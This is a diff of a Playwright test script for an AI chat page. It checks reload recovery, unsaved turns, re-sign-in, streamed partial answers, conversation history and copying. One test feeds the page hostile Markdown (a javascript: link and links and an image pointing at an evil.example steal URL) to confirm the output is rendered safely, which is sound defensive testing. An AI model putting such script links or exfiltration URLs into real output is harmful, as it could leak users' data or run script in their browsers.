@@ -1,64 +1,28 @@
 // The chat page, sentence by sentence (M7, M10, M16): what is lost on the way comes back, what waits is
-// shown, and nothing that the model says does anything.
+// shown, and nothing that the model says does anything. Its cards are in cards.mjs.
 //
 //   node page.mjs PATH-OF-LOCAL-BINARY PATH-OF-CHROMIUM
 
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
-import { createRequire } from "node:module";
-import { newPage, step, withWorld } from "./world.mjs";
+import { createServer } from "node:http";
+import { RUN, accessible, answerWith, answered, asked, connect, say, signIn } from "./chat.mjs";
+import { step, withWorld } from "./world.mjs";
 
 const [, , local, executablePath] = process.argv;
-const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
 const problems = [];
-const RUN = "**/invocations";
 
-async function signIn(browser, name, application, options) {
-  const page = await newPage(browser, name, problems, options);
-  await page.goto(application);
-  await page.getByRole("button", { name: `Sign in as ${name}` }).click();
-  await page.getByRole("button", { name: "Send" }).waitFor();
-  return page;
-}
-
-async function say(page, text) {
-  await page.getByRole("button", { name: "Send" }).waitFor();
-  await page.getByLabel("Your message").fill(text);
-  await page.getByLabel("Your message").press("Enter");
-}
-
-const answered = (page, text) => page.locator(".prose").getByText(text).last().waitFor();
-const asked = (page, text) => page.locator(".user").getByText(text).waitFor();
-
-async function connect(page) {
-  const link = page.getByRole("link", { name: "Connect GitHub" });
-  const [github] = await Promise.all([page.context().waitForEvent("page"), link.click()]);
-  await github.getByRole("button", { name: "Authorize as octo-alice" }).click();
-  await github.getByRole("heading", { name: "You are connected" }).waitFor();
-  await github.close();
-}
-
-/** No serious violation, by the rules of axe-core. */
-async function accessible(page, what) {
-  await page.evaluate(axe);
-  for (const colorScheme of ["light", "dark"]) {
-    await page.emulateMedia({ colorScheme });
-    const { violations } = await page.evaluate(() => globalThis.axe.run());
-    const serious = violations.filter(({ impact }) => ["serious", "critical"].includes(impact));
-    const told = serious.map(({ id, nodes }) => `${id}: ${nodes.map((it) => it.html + it.failureSummary).join("\n")}`);
-    assert.deepEqual(told, [], `${what}, ${colorScheme}`);
-  }
-  await page.emulateMedia({ colorScheme: null });
-}
-
-/** Answers the next run with `events` instead of the service. */
-async function answerWith(page, events) {
-  const body = events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join("");
-  await page.route(RUN, (route) => route.fulfill({ contentType: "text/event-stream", body }), { times: 1 });
+/** A service that begins to answer, and says no more. */
+async function halfAnswer(events) {
+  const server = createServer((_, response) => {
+    response.writeHead(200, { "content-type": "text/event-stream" });
+    for (const event of events) response.write(`data: ${JSON.stringify(event)}\n\n`);
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => server.closeAllConnections() ?? server.close() };
 }
 
 await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ browser, application }) => {
-  const alice = await signIn(browser, "Alice Example", application);
+  const alice = await signIn(browser, "Alice Example", application, problems);
   await accessible(alice, "the empty page");
   await alice.getByLabel("Your message").fill("half a sent");
   await alice.reload();
@@ -107,6 +71,7 @@ await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ br
   }
   await alice.keyboard.press("Enter");
   await answered(alice, "I created issue 1");
+  assert.equal(await alice.evaluate(() => document.activeElement.id), "message", "one goes on at the message");
   await alice.getByText(/you approved it, as octo-alice, \d/).waitFor();
   await alice.reload();
   await answered(alice, "I created issue 1");
@@ -137,6 +102,33 @@ await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ br
   await answered(alice, "You are octo-alice");
   assert.equal(await alice.locator(".user").getByText("Who am I at GitHub?").count(), 1);
   step("a message that failed is tried again at its bubble, even after a reload");
+
+  await answerWith(alice, [
+    { type: "RUN_STARTED", threadId: "t", runId: "r" },
+    { type: "TEXT_MESSAGE_START", messageId: "s", role: "assistant" },
+    { type: "TEXT_MESSAGE_CONTENT", messageId: "s", delta: "What was said." },
+    { type: "TEXT_MESSAGE_END", messageId: "s" },
+    { type: "RUN_ERROR", code: "not_saved", message: "This turn could not be saved." },
+  ]);
+  await say(alice, "Say something.");
+  await alice.locator(".problem").getByText("This turn could not be saved.").waitFor();
+  await answered(alice, "What was said.");
+  step("a turn that could not be saved shows what was said");
+
+  const elsewhere = await alice.context().newPage();
+  await elsewhere.goto(application);
+  await elsewhere.getByRole("button", { name: "Sign out" }).click();
+  await elsewhere.getByText("You are signed out in this browser").waitFor();
+  await elsewhere.close();
+  await say(alice, "Are you there?");
+  await alice.getByRole("button", { name: "Sign in again" }).click();
+  await alice.getByRole("button", { name: "Sign in as Alice Example" }).click();
+  await asked(alice, "Who am I at GitHub?");
+  assert.equal(alice.url(), address, "one comes back to the conversation");
+  const lost = alice.locator(".turn", { hasText: "Are you there?" });
+  await lost.getByRole("button", { name: "Try again" }).click();
+  await lost.locator(".prose").getByText("I am the scripted model").waitFor();
+  step("after a new sign-in the conversation is there, and what was not sent is tried again");
 
   let release;
   const held = new Promise((resolve) => (release = resolve));
@@ -170,6 +162,20 @@ await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ br
   await alice.getByRole("button", { name: "Ask again" }).waitFor();
   step("a silence is told, and one can stop and ask again");
 
+  const begun = await halfAnswer([
+    { type: "RUN_STARTED", threadId: "t", runId: "r" },
+    { type: "TEXT_MESSAGE_START", messageId: "half", role: "assistant" },
+    { type: "TEXT_MESSAGE_CONTENT", messageId: "half", delta: "The first half" },
+  ]);
+  await alice.route(RUN, (route) => route.continue({ url: begun.url }), { times: 1 });
+  await say(alice, "Tell me something long.");
+  await answered(alice, "The first");
+  await alice.getByRole("button", { name: "Stop" }).click();
+  await alice.getByText("You stopped this.").last().waitFor();
+  await answered(alice, "The first half");
+  begun.close();
+  step("text is shown as it comes, and stays when one stops it");
+
   const id = "m";
   const words = [
     "[click](javascript:alert(1)) [bank](https://evil.example/steal?q=1) ![pixel](https://evil.example/p.png?secret)\n\n",
@@ -194,21 +200,33 @@ await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ br
   assert.match(await prose.getByText("bank").getAttribute("rel"), /noopener/);
   step("the model's words are Markdown: links show where they lead, images are links, HTML is text");
 
-  const past = {
-    id: "i", reason: "confirmation_required", message: "m", expiresAt: "2020-01-01T00:00:00Z",
-    metadata: { tool: "github_create_issue", input: { title: "Late" }, account: "octo-alice", details: {} },
-  };
-  await answerWith(alice, [
-    { type: "RUN_STARTED", threadId: "t", runId: "r" },
-    { type: "RUN_FINISHED", threadId: "t", runId: "r", outcome: { type: "interrupt", interrupts: [past] } },
-  ]);
-  await say(alice, "Something that was asked long ago.");
-  await alice.getByRole("heading", { name: "Create this issue?" }).waitFor();
-  let runs = 0;
-  alice.on("request", (request) => (runs += request.url().endsWith("/invocations")));
-  await alice.clock.runFor(30_000);
-  assert.equal(runs, 0, "it asks again and again");
-  step("a card of long ago, or a clock that is wrong, makes the page ask nobody");
+  const history = alice.getByRole("navigation", { name: "Conversations" });
+  const entries = history.getByRole("link", { name: "Which repositories do I have, private ones too?" });
+  await alice.reload();
+  await history.getByRole("heading", { name: "Today" }).waitFor();
+  await entries.nth(1).waitFor();
+  assert.equal(await entries.count(), 2, "each is called by its first words");
+  assert.equal(await history.locator("[aria-current=page]").count(), 1);
+  const other = entries.and(history.locator(":not([aria-current])"));
+  await other.click();
+  await answered(alice, "octo-alice/diary");
+  const remove = history.locator("li.now").getByRole("button");
+  await remove.click();
+  assert.equal(await remove.innerText(), "Delete it?");
+  await remove.click();
+  await alice.getByRole("heading", { name: /What shall Countersign/ }).waitFor();
+  await alice.reload();
+  await entries.waitFor();
+  assert.equal(await entries.count(), 1);
+  step("conversations are listed by day and by their first words, opened, and deleted after a second click");
+
+  await alice.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await entries.click();
+  await answered(alice, "octo-alice/garden");
+  await alice.getByRole("button", { name: "Copy" }).first().click();
+  await alice.getByRole("button", { name: "Copied" }).waitFor();
+  assert.match(await alice.evaluate(() => navigator.clipboard.readText()), /octo-alice\/garden/);
+  step("an answer is copied as it was written");
 
   await alice.setViewportSize({ width: 390, height: 844 });
   await alice.getByRole("button", { name: "Conversations" }).click();
